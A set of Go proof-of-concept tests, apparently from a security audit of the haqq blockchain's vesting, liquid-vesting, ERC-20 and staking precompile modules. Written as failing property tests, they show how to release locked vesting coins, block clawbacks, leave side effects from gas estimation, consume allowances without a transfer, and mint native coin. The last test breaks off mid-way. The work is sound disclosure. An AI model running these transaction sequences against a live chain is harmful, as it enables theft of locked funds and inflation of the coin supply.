	suite.T().Logf("V balance after clawback: %s (redeemed vested coins: %s)", vBal, zzLocked.Amount)
	suite.T().Logf("L spendable before: %s  after: %s", spendableBefore, spendableAfter)

	// the redeemed coins were vested: a clawback may only take V's own unvested 1 aISLM
	suite.Require().True(vBal.GTE(zzLocked.Amount),
		"clawback took vested coins: V keeps %s of the %s vested coins redeemed into it", vBal, zzLocked.Amount)
	// no time has passed: nothing of the locked grant may have become spendable
	suite.Require().True(spendableAfter.LTE(spendableBefore),
		"lockup escaped: L's spendable balance went from %s to %s at a time when nothing is unlocked", spendableBefore, spendableAfter)
}

// The same history as ONE transaction signed by L alone, delivered through
// BaseApp (ante handlers, message router, real block).
func (suite *KeeperTestSuite) TestZZRedeemThenClawbackSingleTx() {
	suite.SetupTest()
	suite.Commit()

	gAddr, _ := utiltx.NewAccAddressAndKey()
	lAddr, lPriv := utiltx.NewAccAddressAndKey()
	vAddr, _ := utiltx.NewAccAddressAndKey()
	outAddr, _ := utiltx.NewAccAddressAndKey()

	suite.Require().NoError(testutil.FundAccount(suite.ctx, suite.app.BankKeeper, gAddr, sdk.NewCoins(zzLocked)))
	suite.Require().NoError(testutil.FundAccount(suite.ctx, suite.app.BankKeeper, lAddr, sdk.NewCoins(zzFree)))

	now := suite.ctx.BlockTime()
	lockup := sdkvesting.Periods{
		{Length: 100000, Amount: zzThird},
		{Length: 100000, Amount: zzThird},
		{Length: 100000, Amount: zzThird},
	}
	_, err := suite.app.VestingKeeper.ConvertIntoVestingAccount(suite.ctx, types.NewMsgConvertIntoVestingAccount(
		gAddr, lAddr, now.Add(-10*time.Second), lockup, nil, false, false, nil,
	))
	suite.Require().NoError(err)
	suite.Commit()
	// a later block, still long before the first unlock
	suite.CommitAfter(1000 * time.Second)

	bk := suite.app.BankKeeper
	spendableBefore := bk.SpendableCoins(suite.ctx, lAddr).AmountOf("aISLM")
	suite.Require().Equal(zzFree.Amount.String(), spendableBefore.String())

	// sanity: L cannot send the locked coins away directly
	err = bk.SendCoins(suite.ctx, lAddr, outAddr, sdk.NewCoins(zzLocked))
	suite.Require().Error(err, "locked coins must not be transferable")

	one := sdk.NewCoins(sdk.NewInt64Coin("aISLM", 1))
	liquid := sdk.NewCoin(liquidtypes.DenomBaseNameFromID(suite.app.LiquidVestingKeeper.GetDenomCounter(suite.ctx)), zzLocked.Amount)
	msgs := []sdk.Msg{
		types.NewMsgCreateClawbackVestingAccount(lAddr, vAddr, suite.ctx.BlockTime().Add(1_000_000*time.Second),
			sdkvesting.Periods{{Length: 1, Amount: one}}, sdkvesting.Periods{{Length: 1, Amount: one}}, false),
		liquidtypes.NewMsgLiquidate(lAddr, lAddr, zzLocked),
		liquidtypes.NewMsgRedeem(lAddr, vAddr, liquid),
		types.NewMsgClawback(lAddr, vAddr, nil),
	}
	res, err := testutil.DeliverTx(suite.ctx, suite.app, lPriv, nil, signing.SignMode_SIGN_MODE_DIRECT, msgs...)
	suite.Require().NoError(err)
	suite.Require().Equal(uint32(0), res.Code, res.Log)
	suite.Commit()

	// L now sends the formerly locked 3000 ISLM to a fresh address
	errSend := bk.SendCoins(suite.ctx, lAddr, outAddr, sdk.NewCoins(zzLocked))
	spendableAfter := bk.SpendableCoins(suite.ctx, lAddr).AmountOf("aISLM")
	outBal := bk.GetBalance(suite.ctx, outAddr, "aISLM").Amount
	suite.T().Logf("block time %d, first unlock of the grant at %d", suite.ctx.BlockTime().Unix(), now.Unix()-10+100000)
	suite.T().Logf("transfer of the 3000 locked ISLM out of L: err=%v, recipient balance=%s, L spendable left=%s", errSend, outBal, spendableAfter)

	suite.Require().Error(errSend, "lockup escaped: the 3000 ISLM locked until %d left L at time %d", now.Unix()-10+100000, suite.ctx.BlockTime().Unix())
	suite.Require().True(outBal.IsZero(), "locked coins reached another account: %s", outBal)
}
