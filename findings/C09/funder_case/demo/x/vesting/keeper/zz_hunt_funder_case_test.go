package keeper_test

import (
	"strings"

	sdk "github.com/cosmos/cosmos-sdk/types"

	"github.com/haqq-network/haqq/testutil"
	"github.com/haqq-network/haqq/x/vesting/types"
)

// Property (C09): "A clawback can be triggered only by the recorded funder,
// transfers exactly the unvested amount to the destination ..." for all
// sequences of create / merge / clawback / funder-update.
//
// MsgUpdateVestingFunder stores the NewFunderAddress *string* verbatim, while
// Clawback compares the stored string with the canonical (lower-case)
// rendering of the signer. Bech32 is case-insensitive (all-upper-case is a
// valid encoding, it is what QR codes use) and ValidateBasic accepts it, so
// after a perfectly valid funder update to an upper-case address the recorded
// funder can no longer claw back (nor can anybody else).
func (suite *KeeperTestSuite) TestZZHuntRecordedFunderCannotClawbackAfterUppercaseUpdate() {
	suite.SetupTest()
	ctx := sdk.WrapSDKContext(suite.ctx)
	suite.Require().NoError(testutil.FundAccount(suite.ctx, suite.app.BankKeeper, funder, balances))

	_, err := suite.app.VestingKeeper.CreateClawbackVestingAccount(ctx,
		types.NewMsgCreateClawbackVestingAccount(funder, vestingAddr, suite.ctx.BlockTime(), lockupPeriods, vestingPeriods, false))
	suite.Require().NoError(err)

	// hand the grant over to addr3, given in its (valid) upper-case bech32 form
	upper := strings.ToUpper(addr3.String())
	parsed, err := sdk.AccAddressFromBech32(upper)
	suite.Require().NoError(err)
	suite.Require().Equal(addr3, parsed, "upper-case bech32 denotes the same account")

	upd := &types.MsgUpdateVestingFunder{
		FunderAddress:    funder.String(),
		NewFunderAddress: upper,
		VestingAddress:   vestingAddr.String(),
	}
	suite.Require().NoError(upd.ValidateBasic())
	_, err = suite.app.VestingKeeper.UpdateVestingFunder(ctx, upd)
	suite.Require().NoError(err)

	acc := suite.app.AccountKeeper.GetAccount(suite.ctx, vestingAddr).(*types.ClawbackVestingAccount)
	suite.T().Logf("recorded funder: %s", acc.FunderAddress)
	recorded, err := sdk.AccAddressFromBech32(acc.FunderAddress)
	suite.Require().NoError(err)
	suite.Require().Equal(addr3, recorded, "addr3 is the recorded funder")

	// the old funder is out ...
	_, err = suite.app.VestingKeeper.Clawback(ctx, types.NewMsgClawback(funder, vestingAddr, nil))
	suite.Require().Error(err)

	// ... and the recorded funder must be able to claw back the (entirely unvested) grant
	clawback := types.NewMsgClawback(addr3, vestingAddr, nil)
	suite.Require().NoError(clawback.ValidateBasic())
	_, err = suite.app.VestingKeeper.Clawback(ctx, clawback)
	suite.Assert().NoError(err, "the recorded funder must be able to claw back")

	if err != nil {
		// not even when the funder is spelled exactly as recorded
		clawbackUpper := &types.MsgClawback{FunderAddress: upper, AccountAddress: vestingAddr.String()}
		suite.Require().NoError(clawbackUpper.ValidateBasic())
		_, err2 := suite.app.VestingKeeper.Clawback(ctx, clawbackUpper)
		suite.Assert().NoError(err2, "the recorded funder must be able to claw back (upper-case spelling)")
	}

	suite.Assert().Equal(balances.String(), suite.app.BankKeeper.GetAllBalances(suite.ctx, addr3).String(),
		"the unvested 1000aISLM must have been transferred to the recorded funder")
	suite.Assert().Equal("", suite.app.BankKeeper.GetAllBalances(suite.ctx, vestingAddr).String(),
		"no unvested coin may stay in the vesting account")
}
