package keeper_test

import (
	"encoding/binary"
	"math/big"
	"time"

	"cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"

	stakingprecompile "github.com/haqq-network/haqq/precompiles/staking"
	"github.com/haqq-network/haqq/testutil"
	"github.com/haqq-network/haqq/utils"
	"github.com/haqq-network/haqq/x/erc20/types"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// ---------------------------------------------------------------------------
// a tiny two-pass EVM assembler (there is no solc in the sandbox)
// ---------------------------------------------------------------------------

type zzAsm struct {
	code   []byte
	labels map[string]int
	fixups map[int]string // position of a 2-byte operand -> label
}

func newZZAsm() *zzAsm {
	return &zzAsm{labels: map[string]int{}, fixups: map[int]string{}}
}

func (a *zzAsm) op(b ...byte) *zzAsm { a.code = append(a.code, b...); return a }

// push pushes the given bytes with the matching PUSHn opcode
func (a *zzAsm) push(b ...byte) *zzAsm {
	a.code = append(a.code, byte(0x5f+len(b)))
	a.code = append(a.code, b...)
	return a
}

// pushLabel pushes the (2-byte) code offset of a label
func (a *zzAsm) pushLabel(l string) *zzAsm {
	a.code = append(a.code, 0x61)
	a.fixups[len(a.code)] = l
	a.code = append(a.code, 0, 0)
	return a
}

// label marks a JUMPDEST
func (a *zzAsm) label(l string) *zzAsm {
	a.labels[l] = len(a.code)
	a.code = append(a.code, 0x5b)
	return a
}

// mark marks a position without emitting a JUMPDEST (data section)
func (a *zzAsm) mark(l string) *zzAsm { a.labels[l] = len(a.code); return a }

func (a *zzAsm) bytes() []byte {
	out := append([]byte{}, a.code...)
	for pos, l := range a.fixups {
		off, ok := a.labels[l]
		if !ok {
			panic("unknown label " + l)
		}
		binary.BigEndian.PutUint16(out[pos:], uint16(off))
	}
	return out
}

const (
	opADD          = 0x01
	opSUB          = 0x03
	opEQ           = 0x14
	opISZERO       = 0x15
	opSHR          = 0x1c
	opCALLER       = 0x33
	opCALLDATALOAD = 0x35
	opCODECOPY     = 0x39
	opMSTORE       = 0x52
	opSLOAD        = 0x54
	opSSTORE       = 0x55
	opJUMPI        = 0x57
	opGAS          = 0x5a
	opDUP1         = 0x80
	opCALL         = 0xf1
	opRETURN       = 0xf3
	opREVERT       = 0xfd
)

// zzTokenInitCode assembles a minimal ERC-20 ("HUNT", 18 decimals, 1_000_000 units minted to the deployer)
// whose transfer() first calls the staking precompile with the given calldata (and reverts if that call
// fails) and then does the usual balance bookkeeping:
//
//	function transfer(address to, uint256 amt) external returns (bool) {
//	    (bool ok,) = address(0x800).call(precompileCalldata); require(ok);
//	    balanceOf[msg.sender] -= amt; balanceOf[to] += amt; return true;
//	}
func zzTokenInitCode(precompileCalldata []byte) []byte {
	dl := make([]byte, 2)
	binary.BigEndian.PutUint16(dl, uint16(len(precompileCalldata)))

	name := make([]byte, 32)
	copy(name, "HUNT")

	rt := newZZAsm()
	// selector dispatch
	rt.push(0).op(opCALLDATALOAD).push(0xe0).op(opSHR)
	rt.op(opDUP1).push(0xa9, 0x05, 0x9c, 0xbb).op(opEQ).pushLabel("transfer").op(opJUMPI)
	rt.op(opDUP1).push(0x70, 0xa0, 0x82, 0x31).op(opEQ).pushLabel("balanceOf").op(opJUMPI)
	rt.op(opDUP1).push(0x31, 0x3c, 0xe5, 0x67).op(opEQ).pushLabel("decimals").op(opJUMPI)
	rt.op(opDUP1).push(0x06, 0xfd, 0xde, 0x03).op(opEQ).pushLabel("name").op(opJUMPI)
	rt.op(opDUP1).push(0x95, 0xd8, 0x9b, 0x41).op(opEQ).pushLabel("name").op(opJUMPI)
	rt.push(0).push(0).op(opREVERT)

	// balanceOf(address)
	rt.label("balanceOf")
	rt.push(4).op(opCALLDATALOAD).op(opSLOAD).push(0).op(opMSTORE).push(0x20).push(0).op(opRETURN)

	// decimals()
	rt.label("decimals")
	rt.push(18).push(0).op(opMSTORE).push(0x20).push(0).op(opRETURN)

	// name() / symbol()
	rt.label("name")
	rt.push(0x20).push(0).op(opMSTORE)
	rt.push(4).push(0x20).op(opMSTORE)
	rt.push(name...).push(0x40).op(opMSTORE)
	rt.push(0x60).push(0).op(opRETURN)

	// transfer(address,uint256)
	rt.label("transfer")
	// memory[0:len] = precompile calldata
	rt.push(dl...).pushLabel("data").push(0).op(opCODECOPY)
	// ok = call(gas, 0x800, 0, 0, len, 0, 0)
	rt.push(0).push(0).push(dl...).push(0).push(0).push(0x08, 0x00).op(opGAS).op(opCALL)
	rt.op(opISZERO).pushLabel("fail").op(opJUMPI)
	// balanceOf[caller] -= amt
	rt.push(0x24).op(opCALLDATALOAD).op(opCALLER).op(opSLOAD).op(opSUB).op(opCALLER).op(opSSTORE)
	// balanceOf[to] += amt
	rt.push(0x24).op(opCALLDATALOAD).push(4).op(opCALLDATALOAD).op(opSLOAD).op(opADD).push(4).op(opCALLDATALOAD).op(opSSTORE)
	// return true
	rt.push(1).push(0).op(opMSTORE).push(0x20).push(0).op(opRETURN)

	rt.label("fail")
	rt.push(0).push(0).op(opREVERT)

	rt.mark("data")
	rt.op(precompileCalldata...)
	runtime := rt.bytes()

	rl := make([]byte, 2)
	binary.BigEndian.PutUint16(rl, uint16(len(runtime)))

	in := newZZAsm()
	// balanceOf[deployer] = 1_000_000
	in.push(0x0f, 0x42, 0x40).op(opCALLER).op(opSSTORE)
	// return runtime
	in.push(rl...).op(opDUP1).pushLabel("rt").push(0).op(opCODECOPY).push(0).op(opRETURN)
	in.mark("rt")
	in.op(runtime...)
	return in.bytes()
}

// The property (C05): an EVM execution that runs out of gas, and more generally one that is discarded,
// leaves no trace - the Cosmos-side effects of the precompile calls made in it included.
//
// MsgConvertERC20 of a registered (OWNER_EXTERNAL) token runs token.transfer() through CallEVMWithData,
// which first "estimates" the gas with a binary search of ~25 full executions of the message
// (EstimateGasInternal, commit=false) - on the live transaction context. The executions of the search are
// meant to be thrown away (some of them even end with "out of gas"), but whatever a stateful precompile
// wrote during them stays in the context.
func (suite *KeeperTestSuite) TestZZHuntInternalGasEstimationRunsOnLiveState() {
	suite.SetupTest()

	const delegatePerTransfer = 1000

	delegator := sdk.AccAddress(suite.address.Bytes())
	valAddr := suite.validator.GetOperator()

	stakingABI, err := stakingprecompile.LoadABI()
	suite.Require().NoError(err)
	delegateCalldata, err := stakingABI.Pack("delegate", suite.address, valAddr.String(), big.NewInt(delegatePerTransfer))
	suite.Require().NoError(err)

	// deploy the token (the deployer = suite.address receives 1_000_000 units) and register it, as a
	// governance RegisterERC20 proposal would
	suite.Commit()
	token, err := testutil.DeployContract(
		suite.ctx, suite.app, suite.priv, suite.queryClientEvm,
		evmtypes.CompiledContract{ABI: abi.ABI{}, Bin: zzTokenInitCode(delegateCalldata)},
	)
	suite.Require().NoError(err)
	suite.Commit()

	pair, err := suite.app.Erc20Keeper.RegisterERC20(suite.ctx, token)
	suite.Require().NoError(err)
	suite.Require().Equal(types.OWNER_EXTERNAL, pair.ContractOwner)
	suite.Require().Equal(int64(1_000_000), suite.BalanceOf(token, suite.address).(*big.Int).Int64())

	// the holder lets the token contract delegate on its behalf (what StakingI.approve does)
	limit := sdk.NewCoin(utils.BaseDenom, math.NewInt(1_000_000_000))
	stakeAuthz, err := stakingtypes.NewStakeAuthorization(
		[]sdk.ValAddress{valAddr}, nil, stakingtypes.AuthorizationType_AUTHORIZATION_TYPE_DELEGATE, &limit,
	)
	suite.Require().NoError(err)
	expiration := suite.ctx.BlockTime().Add(365 * 24 * time.Hour)
	err = suite.app.AuthzKeeper.SaveGrant(suite.ctx, token.Bytes(), delegator, stakeAuthz, &expiration)
	suite.Require().NoError(err)

	delegated := func() math.Int {
		del, found := suite.app.StakingKeeper.GetDelegation(suite.ctx, delegator, valAddr)
		if !found {
			return math.ZeroInt()
		}
		val, found := suite.app.StakingKeeper.GetValidator(suite.ctx, valAddr)
		suite.Require().True(found)
		return val.TokensFromShares(del.Shares).TruncateInt()
	}

	// reference: one token.transfer() sent as an ordinary Ethereum transaction delegates exactly once
	suite.Require().True(delegated().IsZero())
	other := common.HexToAddress("0x00000000000000000000000000000000000a11ce")
	suite.TransferERC20Token(token, suite.address, other, big.NewInt(10))
	suite.Require().Equal(int64(10), suite.BalanceOf(token, other).(*big.Int).Int64())
	suite.Require().Equal(int64(delegatePerTransfer), delegated().Int64(),
		"reference: one transfer() in an Ethereum tx = one delegation")

	bankBefore := suite.app.BankKeeper.GetBalance(suite.ctx, delegator, utils.BaseDenom)
	delegatedBefore := delegated()

	// convert 10 tokens: exactly one token.transfer(erc20 module, 10) is to be executed
	msg := types.NewMsgConvertERC20(math.NewInt(10), delegator, token, suite.address)
	_, err = suite.app.Erc20Keeper.ConvertERC20(sdk.WrapSDKContext(suite.ctx), msg)
	suite.Require().NoError(err)

	// the conversion itself is fine ...
	suite.Require().Equal(int64(10), suite.app.BankKeeper.GetBalance(suite.ctx, delegator, pair.Denom).Amount.Int64())
	suite.Require().Equal(int64(10), suite.BalanceOf(token, types.ModuleAddress).(*big.Int).Int64())

	// ... but the holder must have delegated (and paid for) exactly one more delegation
	delegatedNow := delegated().Sub(delegatedBefore)
	spent := bankBefore.Amount.Sub(suite.app.BankKeeper.GetBalance(suite.ctx, delegator, utils.BaseDenom).Amount)
	suite.T().Logf("delegated by one MsgConvertERC20: %s (expected %d); %s debited from the holder: %s",
		delegatedNow, delegatePerTransfer, utils.BaseDenom, spent)

	suite.Require().Equal(int64(delegatePerTransfer), delegatedNow.Int64(),
		"one token.transfer() was requested: the delegations made by the discarded / out-of-gas executions of the internal gas estimation must leave no trace")
	suite.Require().Equal(int64(delegatePerTransfer), spent.Int64())
}
