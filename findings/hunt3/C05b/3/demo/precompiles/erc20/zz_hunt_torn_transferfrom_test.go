package erc20_test

import (
	"math/big"

	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"

	"github.com/haqq-network/haqq/precompiles/erc20"
	"github.com/haqq-network/haqq/testutil/integration/haqq/factory"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// zzSwallowingForwarderTo returns the init code of a 40-byte contract (no solc in the sandbox):
//
//	fallback() external {
//	    target.call(msg.data); // result ignored: the failure is "caught"
//	}
//
// runtime: CALLDATASIZE PUSH1 0 PUSH1 0 CALLDATACOPY
//
//	PUSH1 0 PUSH1 0 CALLDATASIZE PUSH1 0 PUSH1 0 PUSH20 target GAS CALL POP STOP
func zzSwallowingForwarderTo(target common.Address) []byte {
	code := common.FromHex("0x6028" + "80" + "600b" + "6000" + "39" + "6000" + "f3" + // init: return the 0x28 bytes that follow
		"36" + "6000" + "6000" + "37" +
		"6000" + "6000" + "36" + "6000" + "6000" + "73")
	code = append(code, target.Bytes()...)
	code = append(code, 0x5a, 0xf1, 0x50, 0x00)
	return code
}

// The property (C05): a call frame that fails leaves no trace - grants included.
//
// ERC-20 precompile (the one RegisterERC20Extensions installs for module-owned token pairs): a spender
// contract calls transferFrom(owner, to, 100) while the owner only holds 50 tokens, and catches the failure.
// The precompile runs the bank MsgSend through authz DispatchActions directly on the transaction context: the
// SendAuthorization is consumed (here: deleted) before the send fails, and nothing brings it back when the
// precompile call frame fails. The staking / distribution / ICS-20 precompiles run their handlers on a cache
// context for exactly this reason; the ERC-20 / WERC-20 precompiles do not.
func (s *PrecompileTestSuite) TestZZHuntFailedTransferFromConsumesAllowance() {
	owner := s.keyring.GetKey(0)
	caller := s.keyring.GetKey(1)
	recipient := common.HexToAddress("0x00000000000000000000000000000000000b0b00")
	precompileAddr := s.precompile.Address()

	// the owner holds 50 tokens
	s.Require().NoError(s.network.FundAccount(owner.AccAddr, sdk.NewCoins(sdk.NewInt64Coin(s.tokenDenom, 50))))

	// the spender: a contract that forwards its calldata to the token and swallows a failure
	spender, err := s.factory.DeployContract(
		caller.Priv, evmtypes.EvmTxArgs{},
		factory.ContractDeploymentData{
			Contract: evmtypes.CompiledContract{ABI: abi.ABI{}, Bin: zzSwallowingForwarderTo(precompileAddr)},
		},
	)
	s.Require().NoError(err)
	s.Require().NoError(s.network.NextBlock())

	// the owner approves the spender for 100 tokens: token.approve(spender, 100)
	_, err = s.factory.ExecuteContractCall(
		owner.Priv, evmtypes.EvmTxArgs{To: &precompileAddr},
		factory.CallArgs{ContractABI: s.precompile.ABI, MethodName: "approve", Args: []interface{}{spender, big.NewInt(100)}},
	)
	s.Require().NoError(err)
	s.Require().NoError(s.network.NextBlock())

	allowance := func() *big.Int {
		_, _, allowance, err := erc20.GetAuthzExpirationAndAllowance(
			s.network.App.AuthzKeeper, s.network.GetContext(), spender, owner.Addr, s.tokenDenom,
		)
		if err != nil {
			s.T().Logf("no allowance: %v", err)
			return big.NewInt(0)
		}
		return allowance
	}
	s.Require().Equal(int64(100), allowance().Int64(), "allowance before")

	// spender -> token.transferFrom(owner, recipient, 100): must fail, the owner only has 50
	input, err := s.precompile.ABI.Pack("transferFrom", owner.Addr, recipient, big.NewInt(100))
	s.Require().NoError(err)
	res, err := s.factory.ExecuteEthTx(caller.Priv, evmtypes.EvmTxArgs{To: &spender, Input: input, GasLimit: 10_000_000})
	s.Require().NoError(err)
	ethRes, err := evmtypes.DecodeTxResponse(res.Data)
	s.Require().NoError(err)
	s.Require().Empty(ethRes.VmError, "the outer transaction succeeds: the spender swallowed the inner failure")
	s.Require().NoError(s.network.NextBlock())

	// the transfer did fail: nothing moved
	ctx := s.network.GetContext()
	s.Require().Equal(int64(50), s.network.App.BankKeeper.GetBalance(ctx, owner.AccAddr, s.tokenDenom).Amount.Int64())
	s.Require().Equal(int64(0), s.network.App.BankKeeper.GetBalance(ctx, recipient.Bytes(), s.tokenDenom).Amount.Int64())

	// ... so the allowance must be what it was
	s.Require().Equal(int64(100), allowance().Int64(),
		"a failed transferFrom frame must leave no trace: the spender's allowance was consumed although nothing was transferred")
}
