package staking_test

import (
	"math/big"
	"time"

	"cosmossdk.io/math"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"

	"github.com/haqq-network/haqq/precompiles/staking"
	haqqtestutil "github.com/haqq-network/haqq/testutil"
	"github.com/haqq-network/haqq/utils"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// zzForwarderRuntime is a 38 byte contract. Its calldata is
//
//	[32 bytes: target address, left padded][payload]
//
// and it performs   target.call{value: msg.value, gas: 200000}(payload)
// IGNORING a failure of that call (exactly what `target.call{value: v}(data)` without a
// `require(success)`, or a Solidity try/catch, compiles to), then returns the success flag.
//
//	60 20 36 03        PUSH1 0x20 CALLDATASIZE SUB          size = calldatasize-32
//	80 60 20 60 00 37  DUP1 PUSH1 0x20 PUSH1 0 CALLDATACOPY mem[0:size] = payload
//	60 00 60 00        retSize retOffset
//	82 60 00           argsSize(=size) argsOffset
//	34                 CALLVALUE
//	60 00 35           target = calldataload(0)
//	62 03 0d 40        gas = 200000
//	f1                 CALL
//	60 00 52 60 20 60 00 f3   mstore(0, success) return(0, 32)
var zzForwarderRuntime = common.FromHex("0x" +
	"60203603" + "806020600037" + "60006000" + "826000" + "34" + "600035" + "62030d40" + "f1" +
	"60005260206000f3")

// zzForwarderInit copies the runtime code into memory and returns it.
func zzForwarderInit() []byte {
	// PUSH1 len DUP1 PUSH1 0x0c PUSH1 0 CODECOPY PUSH1 0 RETURN STOP(padding)
	init := []byte{0x60, byte(len(zzForwarderRuntime)), 0x80, 0x60, 0x0c, 0x60, 0x00, 0x39, 0x60, 0x00, 0xf3, 0x00}
	return append(init, zzForwarderRuntime...)
}

// TestZZHuntValueSentToPrecompileMintsIntoEvmModule shows that an Ethereum transaction can raise the total supply
// of the native coin: a contract calls the staking precompile WITH VALUE attached and ignores that the call fails.
//
// Property (C02): executing an Ethereum transaction leaves the total supply of the native coin unchanged, and every
// account's balance changes only by what it received and paid.
func (s *PrecompileTestSuite) TestZZHuntValueSentToPrecompileMintsIntoEvmModule() {
	s.SetupTest()

	// --- deploy the forwarder
	forwarder, err := haqqtestutil.DeployContract(
		s.ctx, s.app, s.privKey, s.queryClientEVM,
		evmtypes.CompiledContract{ABI: abi.ABI{}, Bin: zzForwarderInit()},
	)
	s.Require().NoError(err)
	s.ctx, err = haqqtestutil.CommitAndCreateNewCtx(s.ctx, s.app, time.Second, nil)
	s.Require().NoError(err)
	s.Require().Equal(zzForwarderRuntime, s.app.EvmKeeper.GetCode(s.ctx, common.BytesToHash(s.app.EvmKeeper.GetAccountWithoutBalance(s.ctx, forwarder).CodeHash)), "forwarder not deployed")

	// --- payload: a perfectly valid staking precompile call: delegation(signer, validator[0]) (a query, nothing to pay)
	payload, err := s.precompile.Pack(staking.DelegationMethod, s.address, s.validators[0].OperatorAddress)
	s.Require().NoError(err)
	input := append(common.LeftPadBytes(s.precompile.Address().Bytes(), 32), payload...)

	value := big.NewInt(1e18) // 1 ISLM attached to the call

	evmModule := authtypes.NewModuleAddress(evmtypes.ModuleName)
	supplyBefore := s.app.BankKeeper.GetSupply(s.ctx, utils.BaseDenom)
	evmModuleBefore := s.app.BankKeeper.GetBalance(s.ctx, evmModule, utils.BaseDenom)
	forwarderBefore := s.app.BankKeeper.GetBalance(s.ctx, forwarder.Bytes(), utils.BaseDenom)
	precompileBefore := s.app.BankKeeper.GetBalance(s.ctx, s.precompile.Address().Bytes(), utils.BaseDenom)
	s.Require().True(evmModuleBefore.IsZero(), "the evm module account holds nothing between transactions")

	// --- signer -> forwarder{value: 1 ISLM} -> staking precompile{value: 1 ISLM}.delegation(...)
	msg := evmtypes.NewTx(&evmtypes.EvmTxArgs{
		ChainID:  s.app.EvmKeeper.ChainID(),
		Nonce:    s.app.EvmKeeper.GetNonce(s.ctx, s.address),
		To:       &forwarder,
		Amount:   value,
		GasLimit: 500_000,
		GasPrice: s.app.FeeMarketKeeper.GetBaseFee(s.ctx),
		Input:    input,
		Accesses: &ethtypes.AccessList{},
	})
	msg.From = s.address.Hex()

	res, err := haqqtestutil.DeliverEthTx(s.app, s.privKey, msg)
	s.Require().NoError(err, "the Ethereum transaction itself must succeed")
	s.Require().True(res.IsOK(), res.Log)
	ethRes, err := evmtypes.DecodeTxResponse(res.Data)
	s.Require().NoError(err)
	s.Require().False(ethRes.Failed(), "vm error: %s", ethRes.VmError)
	// the forwarder returns the success flag of the inner call: it failed (the precompile address cannot receive funds)
	s.Require().Equal(common.LeftPadBytes([]byte{0}, 32), ethRes.Ret, "inner call to the precompile is expected to fail")

	supplyAfter := s.app.BankKeeper.GetSupply(s.ctx, utils.BaseDenom)
	evmModuleAfter := s.app.BankKeeper.GetBalance(s.ctx, evmModule, utils.BaseDenom)
	forwarderAfter := s.app.BankKeeper.GetBalance(s.ctx, forwarder.Bytes(), utils.BaseDenom)
	precompileAfter := s.app.BankKeeper.GetBalance(s.ctx, s.precompile.Address().Bytes(), utils.BaseDenom)

	s.T().Logf("supply      before %s after %s (diff %s)", supplyBefore.Amount, supplyAfter.Amount, supplyAfter.Amount.Sub(supplyBefore.Amount))
	s.T().Logf("evm module  before %s after %s", evmModuleBefore.Amount, evmModuleAfter.Amount)
	s.T().Logf("forwarder   before %s after %s", forwarderBefore.Amount, forwarderAfter.Amount)
	s.T().Logf("precompile  before %s after %s", precompileBefore.Amount, precompileAfter.Amount)

	// C02: nothing may have been minted or burned.
	s.Require().Equal(supplyBefore.Amount.String(), supplyAfter.Amount.String(),
		"C02: an Ethereum transaction must leave the total supply of the native coin unchanged")
	s.Require().Equal(evmModuleBefore.Amount.String(), evmModuleAfter.Amount.String(),
		"C02: the evm module account must not be left holding freshly minted native coins")

	// the failed inner call was rolled back, so the forwarder keeps the value the signer sent to it
	s.Require().Equal(forwarderBefore.Amount.Add(math.NewIntFromBigInt(value)).String(), forwarderAfter.Amount.String(), "forwarder keeps msg.value")
	s.Require().Equal(precompileBefore.Amount.String(), precompileAfter.Amount.String(), "precompile address received nothing")
}
