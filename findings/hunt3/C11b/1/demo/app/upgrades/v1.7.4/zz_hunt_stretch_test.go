package v174_test

import (
	"time"

	"cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	sdkvesting "github.com/cosmos/cosmos-sdk/x/auth/vesting/types"

	v174 "github.com/haqq-network/haqq/app/upgrades/v1.7.4"
	"github.com/haqq-network/haqq/tests"
	"github.com/haqq-network/haqq/testutil"
	liquidvestingtypes "github.com/haqq-network/haqq/x/liquidvesting/types"
	vestingtypes "github.com/haqq-network/haqq/x/vesting/types"
)

// Property (C11): the schedule recorded for a liquid token always sums to the
// token's supply, and a holder can redeem exactly what he holds.
//
// The v1.7.4 "revesting" migration re-shapes the schedule of every liquid
// token. It computes the rounding remainder of the re-shaped schedule but then
// throws it away, so afterwards the recorded schedule is smaller than the
// supply and the last holder cannot redeem his whole balance.
func (suite *UpgradeTestSuite) TestZZHuntStretchKeepsLiquidScheduleEqualToSupply() {
	suite.SetupTest()

	holder := sdk.AccAddress(tests.GenerateAddress().Bytes())

	// 30 000 ISLM + 7 aISLM locked in four daily-ish tranches, fully vested.
	quarter := math.NewIntWithDecimal(7_500, 18)
	total := quarter.MulRaw(4).AddRaw(7)
	coins := func(i math.Int) sdk.Coins { return sdk.NewCoins(sdk.NewCoin("aISLM", i)) }

	start := suite.ctx.BlockTime().Add(-86410 * time.Second)
	va := vestingtypes.NewClawbackVestingAccount(
		authtypes.NewBaseAccountWithAddress(holder),
		suite.app.AccountKeeper.GetModuleAddress(liquidvestingtypes.ModuleName),
		coins(total),
		start,
		sdkvesting.Periods{
			{Length: 86400, Amount: coins(quarter)},
			{Length: 86500, Amount: coins(quarter)},
			{Length: 86400, Amount: coins(quarter)},
			{Length: 86400, Amount: coins(quarter.AddRaw(7))},
		},
		sdkvesting.Periods{{Length: 0, Amount: coins(total)}},
		nil,
	)
	suite.app.AccountKeeper.SetAccount(suite.ctx, va)
	suite.Require().NoError(testutil.FundAccount(suite.ctx, suite.app.BankKeeper, holder, coins(total)))

	// everything that is still locked (three tranches) becomes aLIQUID0
	liquidated := quarter.MulRaw(3).AddRaw(7)
	_, err := suite.app.LiquidVestingKeeper.Liquidate(suite.ctx,
		liquidvestingtypes.NewMsgLiquidate(holder, holder, sdk.NewCoin("aISLM", liquidated)))
	suite.Require().NoError(err)

	denom, found := suite.app.LiquidVestingKeeper.GetDenom(suite.ctx, "aLIQUID0")
	suite.Require().True(found)
	supply := suite.app.BankKeeper.GetSupply(suite.ctx, "aLIQUID0").Amount
